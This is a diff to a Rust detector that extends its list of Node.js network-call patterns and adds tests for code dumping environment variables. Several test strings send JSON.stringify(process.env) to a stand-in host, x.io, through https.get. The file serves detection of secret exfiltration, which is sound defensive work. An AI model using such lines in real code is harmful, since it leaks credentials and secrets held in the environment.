@@ -86,8 +86,17 @@ const NETWORK: &[&str] = &[
     "fetch(",
     "http.request(",
     "https.request(",
-    // `require('https').request(…)`: the module's call with its name in a masked string.
+    "http.get(",
+    "https.get(",
+    // `require('https').request(…)`, `require('https').get(…)`: the module's call with its
+    // name in a masked string.
     ").request(",
+    "').get(",
+    "\").get(",
+    "http2.connect",
+    "net.createConnection",
+    "undici",
+    "superagent",
     "axios",
     "XMLHttpRequest",
     "net.connect",
@@ -235,6 +244,9 @@ mod tests {
         assert_eq!(dump(Language::Node, "console.log(process.env)", false), Some(false));
         assert_eq!(dump(Language::Node, "process.env", true), Some(false));
         assert_eq!(dump(Language::Node, "fetch(u, {body: JSON.stringify(process.env)})", false), Some(true));
+        let get = "require('https').get('https://x.io/?'+JSON.stringify(process.env))";
+        assert_eq!(dump(Language::Node, get, false), Some(true));
+        assert_eq!(dump(Language::Node, "https.get(u + JSON.stringify(process.env))", false), Some(true));
         assert_eq!(dump(Language::Ruby, "p ENV.to_h", false), Some(false));
         assert_eq!(dump(Language::Perl, "print \"$_=$ENV{$_}\\n\" for keys %ENV", false), Some(false));
     }
